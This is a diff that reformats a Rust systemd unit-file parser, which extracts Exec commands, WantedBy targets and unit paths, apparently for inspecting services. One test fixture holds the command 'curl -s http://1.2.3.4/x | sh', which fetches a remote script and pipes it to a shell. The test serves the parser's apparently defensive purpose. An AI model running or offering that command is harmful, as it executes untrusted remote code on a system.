@@ -66,14 +66,16 @@ impl Unit {
             }
             if text.starts_with(b"[") {
                 if let Some(end) = text.iter().position(|b| *b == b']') {
-                    section = String::from_utf8_lossy(text.get(1..end).unwrap_or_default()).into_owned();
+                    section =
+                        String::from_utf8_lossy(text.get(1..end).unwrap_or_default()).into_owned();
                 }
                 continue;
             }
             let Some(eq) = text.iter().position(|b| *b == b'=') else {
                 continue;
             };
-            let key = String::from_utf8_lossy(text.get(..eq).unwrap_or_default().trim_ascii()).into_owned();
+            let key = String::from_utf8_lossy(text.get(..eq).unwrap_or_default().trim_ascii())
+                .into_owned();
             let (value, more) = continuation(text.get(eq + 1..).unwrap_or_default());
             let e = UnitEntry {
                 line: n,
@@ -108,9 +110,11 @@ impl Unit {
     /// `ExecReload`, `ExecStop`, `ExecStopPost`, `ExecCondition`), honouring empty resets.
     pub fn exec_commands(&self) -> Vec<ExecCommand> {
         let mut out: Vec<ExecCommand> = Vec::new();
-        for e in self.entries.iter().filter(|e| {
-            e.section.eq_ignore_ascii_case("Service") && e.key.starts_with("Exec")
-        }) {
+        for e in self
+            .entries
+            .iter()
+            .filter(|e| e.section.eq_ignore_ascii_case("Service") && e.key.starts_with("Exec"))
+        {
             if e.value.is_empty() {
                 out.retain(|c| c.key != e.key);
                 continue;
@@ -139,7 +143,11 @@ impl Unit {
     /// `WantedBy=` targets, space-separated values joined.
     pub fn wanted_by(&self) -> Vec<Vec<u8>> {
         self.all("Install", "WantedBy")
-            .flat_map(|e| super::words(&e.value).map(<[u8]>::to_vec).collect::<Vec<_>>())
+            .flat_map(|e| {
+                super::words(&e.value)
+                    .map(<[u8]>::to_vec)
+                    .collect::<Vec<_>>()
+            })
             .collect()
     }
 }
@@ -227,7 +235,8 @@ pub fn is_unit_path(path: &[u8]) -> bool {
         b"/run/systemd/generator.late/",
         b"/run/systemd/transient/",
     ];
-    let in_dir = dirs.iter().any(|d| path.starts_with(d)) || super::contains(path, b"/.config/systemd/user/");
+    let in_dir = dirs.iter().any(|d| path.starts_with(d))
+        || super::contains(path, b"/.config/systemd/user/");
     let name = super::basename(path);
     let unit_like = [&b".service"[..], b".timer", b".socket", b".path", b".conf"]
         .iter()
@@ -246,7 +255,10 @@ mod tests {
         let cmds = u.exec_commands();
         assert_eq!(cmds.len(), 2);
         assert_eq!(cmds[0].prefixes, b"-");
-        assert_eq!(cmds[0].argv, vec![b"/bin/mkdir".to_vec(), b"-p".to_vec(), b"/tmp/a b".to_vec()]);
+        assert_eq!(
+            cmds[0].argv,
+            vec![b"/bin/mkdir".to_vec(), b"-p".to_vec(), b"/tmp/a b".to_vec()]
+        );
         assert_eq!(cmds[1].line, 7);
         assert_eq!(cmds[1].program, b"/bin/sh");
         assert_eq!(cmds[1].argv[2], b"curl -s http://1.2.3.4/x | sh");
@@ -267,9 +279,13 @@ mod tests {
     #[test]
     fn unit_paths() {
         assert!(is_unit_path(b"/etc/systemd/system/bot.service"));
-        assert!(is_unit_path(b"/etc/systemd/system/x.service.d/override.conf"));
+        assert!(is_unit_path(
+            b"/etc/systemd/system/x.service.d/override.conf"
+        ));
         assert!(is_unit_path(b"/home/u/.config/systemd/user/a.timer"));
         assert!(!is_unit_path(b"/etc/systemd/system.conf"));
-        assert!(!is_unit_path(b"/etc/systemd/system/multi-user.target.wants"));
+        assert!(!is_unit_path(
+            b"/etc/systemd/system/multi-user.target.wants"
+        ));
     }
 }
